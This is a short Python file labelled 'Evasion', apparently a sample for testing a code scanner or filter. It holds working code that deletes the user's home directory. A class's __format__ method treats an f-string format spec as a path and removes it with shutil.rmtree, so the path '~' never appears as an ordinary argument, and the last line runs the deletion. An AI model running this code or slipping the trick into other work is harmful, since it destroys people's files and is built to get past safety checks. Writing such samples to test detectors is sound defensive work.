# Evasion: deletes the home directory through an f-string's format spec. The
# class's __format__ receives whatever follows the colon in "{obj:...}" and
# treats it as a directory to clear, so the path "~" is written inside the
# f-string as a format spec, never as an argument.
import os
import shutil


class Purger:
    def __format__(self, spec):
        target = os.path.expanduser(spec)
        shutil.rmtree(target, ignore_errors=True)
        return f"cleared {target}"


p = Purger()
print(f"{p:~}")
